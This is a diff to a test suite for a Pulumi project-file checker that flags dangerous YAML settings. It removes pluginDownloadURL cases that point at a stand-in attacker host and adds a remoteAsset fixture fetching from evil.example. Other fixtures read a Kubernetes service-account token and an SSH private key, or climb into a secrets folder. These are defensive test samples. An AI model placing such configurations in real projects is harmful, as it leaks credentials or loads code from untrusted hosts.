@@ -177,8 +177,6 @@ describe('projectProblems', () => {
   });
 
   it.each([
-    ['a resource\'s pluginDownloadURL', 'resources:\n  p:\n    type: pulumi:providers:aws\n    options:\n      pluginDownloadURL: https://evil.example/plugins\n', 'Pulumi.yaml:resources.p.options.pluginDownloadURL'],
-    ['an invoke\'s pluginDownloadURL', 'variables:\n  v:\n    fn::invoke:\n      function: x:y:z\n      options:\n        pluginDownloadURL: github://evil\n', 'Pulumi.yaml:variables.v.fn::invoke.options.pluginDownloadURL'],
     ['fn::readFile of an absolute path', 'variables:\n  token:\n    fn::readFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n', 'Pulumi.yaml:variables.token.fn::readFile'],
     ['fn::readFile of an expression', 'outputs:\n  key:\n    fn::readFile: ${pulumi.cwd}/../../.ssh/id_rsa\n', 'Pulumi.yaml:outputs.key.fn::readFile'],
     ['Fn::FileArchive climbing out', 'resources:\n  f:\n    type: local:x:Y\n    properties:\n      code:\n        Fn::FileArchive: ../../secrets\n', 'Pulumi.yaml:resources.f.properties.code.Fn::FileArchive'],
@@ -193,11 +191,11 @@ describe('projectProblems', () => {
     // Arrange
     const files = project('main: src/\n', {}, {
       'Pulumi.yaml': `${BASE}main: src/\n`,
-      'src/Main.yaml': 'resources:\n  p:\n    type: pulumi:providers:aws\n    options:\n      pluginDownloadURL: https://evil.example\nbackend: s3://x\n',
+      'src/Main.yaml': 'variables:\n  page:\n    fn::remoteAsset: https://evil.example\nbackend: s3://x\n',
     });
 
     // Act / Assert
-    expect(keysOf(files)).toEqual(['src/Main.yaml:resources.p.options.pluginDownloadURL', 'src/Main.yaml:backend']);
+    expect(keysOf(files)).toEqual(['src/Main.yaml:variables.page.fn::remoteAsset', 'src/Main.yaml:backend']);
   });
 
   it.each([
